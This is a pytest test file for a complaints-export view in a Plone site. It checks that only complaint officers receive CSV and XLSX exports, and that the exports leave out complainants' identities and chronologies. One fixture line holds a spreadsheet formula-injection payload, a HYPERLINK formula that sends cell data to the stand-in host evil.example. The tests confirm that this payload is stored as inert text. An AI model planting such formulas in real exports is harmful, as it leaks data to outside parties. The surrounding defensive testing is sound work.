"""The officers' export of complaints: the case, never the identity nor the chronology."""

from datetime import date
from kemenkumham.ham.complaints.identity import store_identity
from kemenkumham.ham.workflows.paths import move_to_state
from plone import api
from plone.app.testing import setRoles
from plone.app.testing import TEST_USER_ID
from tests.factories import make_tree

import csv
import io
import openpyxl
import pytest
import requests
import transaction


PASSWORD = "rahasia-ekspor-1"
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
IDENTITY = {
    "complainant_name": "Ratna Rahasia Wulandari",
    "id_kind": "nik",
    "id_number": "3604123412341234",
    "address": "Kampung Rahasia RT 009",
    "phone": "081299990000",
    "email": "ratna.rahasia@example.org",
    "representative_name": "Kuasa Rahasia Hukum",
    "witnesses": "Saksi Rahasia Satu",
}
CHRONOLOGY = "Kronologi: Pak Darmorahasia dipukul mandor di kebun."
USERS = {
    "petugas1": "petugas-pengaduan",
    "humas1": "humas",
    "editor1": "bidang-ham",
    "verif1": "verifikator",
    "penilai1": "tim-penilai",
    "ani": "mitra-kota-serang",
}
HEADER = [
    "Case id",
    "Registration number",
    "Channel",
    "Date received",
    "State",
    "Kind of party",
    "Party complained about",
    "Right",
    "Place of the incident",
    "Date of the incident",
]


@pytest.fixture
def site(functional):
    portal = functional["portal"]
    setRoles(portal, TEST_USER_ID, ["Manager"])
    make_tree(portal)  # the partners' groups, and one more complaint ("pengaduan-contoh")
    section = portal["pengaduan"]
    complaints = []
    for number, (party, state) in enumerate(
        ((INJECTION, "received"), ("PT Sawit Makmur", "in_handling")), start=1
    ):
        complaint = api.content.create(
            container=section,
            type="Complaint",
            id=f"ekspor-{number}",
            channel="surat",
            party_kind="korporasi",
            party_complained_about=party,
            right_concerned="kesejahteraan",
            incident_place="Cibeber, Lebak",
            incident_date=date(2025, 1, number),
            chronology=CHRONOLOGY,
        )
        complaint.received_date = date(2025, 2, number)
        store_identity(complaint, IDENTITY)
        move_to_state(complaint, state)
        complaint.reindexObject()
        complaints.append(complaint)
    for username, group in USERS.items():
        api.user.create(username=username, email=f"{username}@example.org", password=PASSWORD)
        api.group.add_user(groupname=group, username=username)
    api.user.create(username="admin1", email="admin1@example.org", password=PASSWORD)
    api.user.grant_roles(username="admin1", roles=["Site Administrator"])
    transaction.commit()
    return portal, complaints


def export(portal, username=None, fmt="csv"):
    return requests.get(
        f"{portal['pengaduan'].absolute_url()}/@@export-complaints",
        params={"format": fmt},
        auth=(username, PASSWORD) if username else None,
        timeout=60,
        allow_redirects=False,
    )


def csv_lines(response):
    assert response.status_code == 200, response.text
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert response.headers["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def expected_header():
    return [*HEADER, "Deadline", "Working days left"]


def test_officer_gets_every_case_without_identity_or_chronology(site):
    portal, complaints = site
    response = export(portal, "petugas1")
    assert 'filename="pengaduan-pengaduan.csv"' in response.headers["Content-Disposition"]
    assert "no-store" in response.headers["Cache-Control"]
    lines = csv_lines(response)
    assert lines[0] == expected_header()
    rows = {line[0]: line for line in lines[1:]}
    assert set(rows) == {"ekspor-1", "ekspor-2", "pengaduan-contoh"}
    second = rows["ekspor-2"]
    assert second[:10] == [
        "ekspor-2",
        complaints[1].registration_number,
        "Letter",
        "2025-02-02",
        "In handling",
        "Corporation",
        "PT Sawit Makmur",
        "Right to welfare",
        "Cibeber, Lebak",
        "2025-01-02",
    ]
    text = response.content.decode("utf-8-sig")
    for value in IDENTITY.values():
        assert value not in text, value
    assert "Darmorahasia" not in text and "mandor" not in text


def test_a_formula_in_the_party_name_stays_text(site):
    portal, _complaints = site
    rows = {line[0]: line for line in csv_lines(export(portal, "petugas1"))[1:]}
    assert rows["ekspor-1"][6] == "'" + INJECTION
    response = export(portal, "petugas1", "xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert [cell.value for cell in next(sheet.iter_rows(max_row=1))] == expected_header()
    cells = [row[6] for row in sheet.iter_rows(min_row=2) if row[6].value == INJECTION]
    assert len(cells) == 1 and cells[0].data_type == "s"
    text = " ".join(str(cell.value) for row in sheet.iter_rows() for cell in row)
    for value in IDENTITY.values():
        assert value not in text, value
    assert "Darmorahasia" not in text


@pytest.mark.parametrize(
    "username", [None, "humas1", "editor1", "verif1", "penilai1", "ani", "admin1"]
)
def test_everyone_else_is_refused(site, username):
    portal, complaints = site
    response = export(portal, username)
    assert response.status_code in (302, 401, 403), response.status_code
    if response.status_code == 302:
        assert (
            "login" in response.headers["Location"]
            or "require_login" in (response.headers["Location"])
        )
    assert complaints[1].registration_number.encode() not in response.content
    assert b"Sawit" not in response.content


def test_an_unknown_format_is_refused_with_a_message(site):
    portal, _complaints = site
    response = export(portal, "petugas1", "pdf")
    assert response.status_code == 400
    assert "csv" in response.text and "xlsx" in response.text
